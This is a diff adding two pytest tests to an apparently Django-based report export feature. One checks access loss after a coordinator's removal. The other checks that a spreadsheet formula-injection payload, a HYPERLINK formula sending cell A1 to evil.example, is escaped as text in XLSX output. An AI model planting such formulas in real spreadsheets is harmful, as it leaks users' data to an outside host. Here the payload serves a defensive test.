@@ -336,3 +336,25 @@ def test_a_meeting_report_needs_a_meeting_of_the_edition(korea, coordinator, cli
     )
     assert response.status_code == 302
     assert Report.objects.get().target_id == ours.pk
+
+
+@pytest.mark.django_db
+def test_a_coordinator_removed_from_the_edition_loses_its_reports(korea, coordinator, client):
+    report = services.report_request(kind="edition", target=korea, fmt="xlsx", by=coordinator)
+    build(report)
+    client.force_login(coordinator)
+    assert client.get(f"/reports/{report.pk}/download/").status_code == 200
+    korea.coordinators.remove(coordinator)
+    assert client.get(f"/reports/{report.pk}/download/").status_code == 404
+    assert client.get(f"/reports/{report.pk}/").status_code == 404
+
+
+@pytest.mark.django_db
+def test_text_that_looks_like_a_formula_stays_text_in_xlsx(korea, coordinator):
+    busan = Pairing.objects.get(slug="busan-barcelona-2017-2018")
+    ActionFactory(pairing=busan, title='=HYPERLINK("https://evil.example/?"&A1,"Open")')
+    report = services.report_request(kind="pairing", target=busan, fmt="xlsx", by=coordinator)
+    workbook = load_workbook(io.BytesIO(build(report)))
+    cells = [c for row in sheet(workbook, "Action Plan").iter_rows(min_row=2) for c in row]
+    titles = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert titles and all(c.data_type == "s" and c.value.startswith("'=") for c in titles)
